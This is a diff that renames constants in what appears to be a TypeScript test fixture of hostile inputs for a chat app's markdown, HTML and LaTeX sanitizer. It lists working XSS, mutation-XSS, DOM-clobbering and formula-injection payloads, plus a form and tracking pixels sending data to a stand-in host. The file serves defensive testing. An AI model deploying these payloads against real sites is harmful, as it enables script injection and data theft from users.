@@ -3,10 +3,10 @@
  * `elsewhere.invalid`.
  */
 const RUN = 'window.hacked=1';
-const AWAY = 'https://elsewhere.invalid';
+const EXTERNAL = 'https://elsewhere.invalid';
 
 const EVENTS = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationend'];
-const CARRIERS = [
+const ELEMENTS = [
   (event: string) => `<img src=x ${event}=${RUN}>`,
   (event: string) => `<svg ${event}="${RUN}"></svg>`,
   (event: string) => `<body ${event}='${RUN}'>`,
@@ -15,7 +15,7 @@ const CARRIERS = [
   (event: string) => `<p tabindex=0 ${event.toUpperCase()}=${RUN}>text</p>`,
 ];
 
-const ADDRESSES = [
+const URLS = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
   `javascript&colon;${RUN}`,
@@ -29,32 +29,32 @@ const ADDRESSES = [
   `data:text/html,<script>${RUN}</script>`,
   `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=`,
   `data:image/svg+xml,<svg onload=${RUN}>`,
-  `blob:${AWAY}/1`,
+  `blob:${EXTERNAL}/1`,
   `file:///etc/passwd`,
   `view-source:javascript:${RUN}`,
   `feed:javascript:${RUN}`,
 ];
 const LINKS = [
-  (address: string) => `[read on](${address})`,
-  (address: string) => `[read on](<${address}>)`,
-  (address: string) => `<${address}>`,
-  (address: string) => `![a picture](${address})`,
-  (address: string) => `[read on][there]\n\n[there]: ${address}`,
-  (address: string) => `<a href="${address}">read on</a>`,
+  (url: string) => `[read on](${url})`,
+  (url: string) => `[read on](<${url}>)`,
+  (url: string) => `<${url}>`,
+  (url: string) => `![a picture](${url})`,
+  (url: string) => `[read on][there]\n\n[there]: ${url}`,
+  (url: string) => `<a href="${url}">read on</a>`,
 ];
 
-const FOREIGN = [
+const FOREIGN_CONTENT = [
   `<svg><script>${RUN}</script></svg>`,
   `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
   `<svg><a xlink:href="javascript:${RUN}"><text y=20>read on</text></a></svg>`,
-  `<svg><use href="${AWAY}/i.svg#i"/></svg>`,
-  `<svg><image href="${AWAY}/i.png"/></svg>`,
+  `<svg><use href="${EXTERNAL}/i.svg#i"/></svg>`,
+  `<svg><image href="${EXTERNAL}/i.png"/></svg>`,
   `<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></foreignObject></svg>`,
   `<svg><style><img src=x onerror=${RUN}></style></svg>`,
   `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
-  `<math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUN}">x</maction></math>`,
+  `<math><maction actiontype="statusline#${EXTERNAL}" xlink:href="javascript:${RUN}">x</maction></math>`,
   `<math href="javascript:${RUN}">x</math>`,
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
   `<template><script>${RUN}</script></template>`,
@@ -64,51 +64,51 @@ const FOREIGN = [
 
 const DOCUMENTS = [
   `<script>${RUN}</script>`,
-  `<script src=${AWAY}/s.js></script>`,
+  `<script src=${EXTERNAL}/s.js></script>`,
   `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<SCRIPT/XSS SRC="${AWAY}/s.js"></SCRIPT>`,
+  `<SCRIPT/XSS SRC="${EXTERNAL}/s.js"></SCRIPT>`,
   `<<script>${RUN}//<</script>`,
   `<iframe src="javascript:parent.hacked=1"></iframe>`,
   `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
   `<object data="data:text/html,<script>${RUN}</script>"></object>`,
-  `<embed src="${AWAY}/e.swf">`,
-  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
-  `<base href="${AWAY}/">`,
-  `<link rel=stylesheet href="${AWAY}/s.css">`,
-  `<link rel=prefetch href="${AWAY}/p">`,
-  `<style>@import "${AWAY}/s.css";</style>`,
-  `<style>body{background:url(${AWAY}/b.png)}</style>`,
-  `<p style="background:url(${AWAY}/b.png)">styled</p>`,
+  `<embed src="${EXTERNAL}/e.swf">`,
+  `<meta http-equiv="refresh" content="0;url=${EXTERNAL}">`,
+  `<base href="${EXTERNAL}/">`,
+  `<link rel=stylesheet href="${EXTERNAL}/s.css">`,
+  `<link rel=prefetch href="${EXTERNAL}/p">`,
+  `<style>@import "${EXTERNAL}/s.css";</style>`,
+  `<style>body{background:url(${EXTERNAL}/b.png)}</style>`,
+  `<p style="background:url(${EXTERNAL}/b.png)">styled</p>`,
   `<p style="position:fixed;inset:0;z-index:99">over all</p>`,
-  `<form action="${AWAY}"><input name=secret><button>Go on</button></form>`,
+  `<form action="${EXTERNAL}"><input name=secret><button>Go on</button></form>`,
   `<button formaction="javascript:${RUN}">Go on</button>`,
   `<video><source onerror=${RUN}></video>`,
-  `<audio src="${AWAY}/a.mp3" autoplay></audio>`,
-  `<picture><source srcset="${AWAY}/p.png"><img></picture>`,
-  `<table background="${AWAY}/t.png"><tr><td>1</td></tr></table>`,
+  `<audio src="${EXTERNAL}/a.mp3" autoplay></audio>`,
+  `<picture><source srcset="${EXTERNAL}/p.png"><img></picture>`,
+  `<table background="${EXTERNAL}/t.png"><tr><td>1</td></tr></table>`,
   `<marquee onstart=${RUN}>news</marquee>`,
   `<dialog open><form method=dialog>Sign in again</form></dialog>`,
-  `<a href="https://example.org" ping="${AWAY}/ping" onclick="${RUN}">read on</a>`,
-  `<a target="_top" href="${AWAY}" download>take this</a>`,
-  `<img src="${AWAY}/pixel.png?who=you">`,
-  `<img srcset="${AWAY}/pixel.png 1x">`,
-  `<img lowsrc=${AWAY}/l.png dynsrc=${AWAY}/d.png>`,
+  `<a href="https://example.org" ping="${EXTERNAL}/ping" onclick="${RUN}">read on</a>`,
+  `<a target="_top" href="${EXTERNAL}" download>take this</a>`,
+  `<img src="${EXTERNAL}/pixel.png?who=you">`,
+  `<img srcset="${EXTERNAL}/pixel.png 1x">`,
+  `<img lowsrc=${EXTERNAL}/l.png dynsrc=${EXTERNAL}/d.png>`,
   `<webchat-app></webchat-app><webchat-composer></webchat-composer>`,
   `<webchat-math onclick=${RUN}>x</tex-math>`,
   `<!--[if IE]><script>${RUN}</script><![endif]-->`,
   `<![CDATA[<script>${RUN}</script>]]>`,
-  `<?xml-stylesheet href="${AWAY}/s.xsl"?>`,
+  `<?xml-stylesheet href="${EXTERNAL}/s.xsl"?>`,
 ];
 
-const CLOBBERING = ['app', 'composer', 'main', 'body', 'cookie', 'getElementById', '__proto__'].flatMap(
+const DOM_CLOBBERING = ['app', 'composer', 'main', 'body', 'cookie', 'getElementById', '__proto__'].flatMap(
   (name) => [`<a id="${name}" name="${name}">here</a>`, `<form name="${name}"><input name="${name}">`],
 );
 
 const FORMULAS = [
   `\\href{javascript:${RUN}}{x}`,
-  `\\href{${AWAY}}{x}`,
+  `\\href{${EXTERNAL}}{x}`,
   `\\url{javascript:${RUN}}`,
-  `\\includegraphics{${AWAY}/i.png}`,
+  `\\includegraphics{${EXTERNAL}/i.png}`,
   `\\htmlClass{primary}{x}`,
   `\\htmlId{composer}{x}`,
   `\\htmlStyle{position:fixed}{x}`,
@@ -120,7 +120,7 @@ const FORMULAS = [
   `\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}`,
   `\\rule{9999em}{9999em}`,
   `\\kern{-9999em}x`,
-  `\\color{url(${AWAY})}x`,
+  `\\color{url(${EXTERNAL})}x`,
   `\\colorbox{red" onclick="${RUN}}{x}`,
   `${'{'.repeat(400)}x${'}'.repeat(400)}`,
   `\\frac{1`,
@@ -130,9 +130,9 @@ const FORMULAS = [
 const CODE = [
   `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
   `\`\`\`html\n<img src=x onerror=${RUN}><script>${RUN}</script>\n\`\`\``,
-  `\`\`\`xml\n<!ENTITY e SYSTEM "${AWAY}/e">\n\`\`\``,
+  `\`\`\`xml\n<!ENTITY e SYSTEM "${EXTERNAL}/e">\n\`\`\``,
   `\`\`\`javascript\n</code></pre><script>${RUN}</script>\n\`\`\``,
-  `\`\`\`css\nbody{background:url(${AWAY}/b.png)}\n\`\`\``,
+  `\`\`\`css\nbody{background:url(${EXTERNAL}/b.png)}\n\`\`\``,
   `\`\`\`__proto__\n${RUN}\n\`\`\``,
   `\`\`\`constructor\n${RUN}\n\`\`\``,
   `\`\`\`toString\n${RUN}\n\`\`\``,
@@ -147,11 +147,11 @@ const CODE = [
 const MARKDOWN = [
   `[a](https://example.org "t\\" onmouseover=\\"${RUN}")`,
   `[a](https://example.org 'x" onclick="${RUN}')`,
-  `![" onerror="${RUN}](${AWAY}/i.png)`,
-  `![a](${AWAY}/i.png "title")`,
+  `![" onerror="${RUN}](${EXTERNAL}/i.png)`,
+  `![a](${EXTERNAL}/i.png "title")`,
   `![a](//elsewhere.invalid/i.png)`,
-  `![a][i]\n\n[i]: ${AWAY}/i.png`,
-  `[![a](${AWAY}/i.png)](javascript:${RUN})`,
+  `![a][i]\n\n[i]: ${EXTERNAL}/i.png`,
+  `[![a](${EXTERNAL}/i.png)](javascript:${RUN})`,
   `[a](//elsewhere.invalid)`,
   `[a](/api/v1/conversations)`,
   `[a](#composer)`,
@@ -162,7 +162,7 @@ const MARKDOWN = [
   `| <img src=x onerror=${RUN}> |\n| :-: |\n| [a](javascript:${RUN}) |`,
   `# <img src=x onerror=${RUN}>`,
   `> <script>${RUN}</script>`,
-  `- <iframe src=${AWAY}>`,
+  `- <iframe src=${EXTERNAL}>`,
   `1. [a](javascript:${RUN})`,
   `**<b onclick=${RUN}>bold</b>**`,
   `\\<script>${RUN}</script>`,
@@ -181,7 +181,7 @@ const MARKDOWN = [
 ];
 
 /** Texts that are expensive to render. */
-const HEAVY = [
+const EXPENSIVE = [
   '>'.repeat(300) + ' deep',
   `${'- '.repeat(200)}deep`,
   '*'.repeat(3000),
@@ -196,14 +196,14 @@ const HEAVY = [
   '&'.repeat(3000),
 ];
 
-export const HOSTILE: readonly string[] = [
-  ...EVENTS.flatMap((event) => CARRIERS.map((carrier) => carrier(event))),
-  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
-  ...FOREIGN,
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...EVENTS.flatMap((event) => ELEMENTS.map((element) => element(event))),
+  ...URLS.flatMap((url) => LINKS.map((link) => link(url))),
+  ...FOREIGN_CONTENT,
   ...DOCUMENTS,
-  ...CLOBBERING,
+  ...DOM_CLOBBERING,
   ...FORMULAS,
   ...CODE,
   ...MARKDOWN,
-  ...HEAVY,
+  ...EXPENSIVE,
 ];
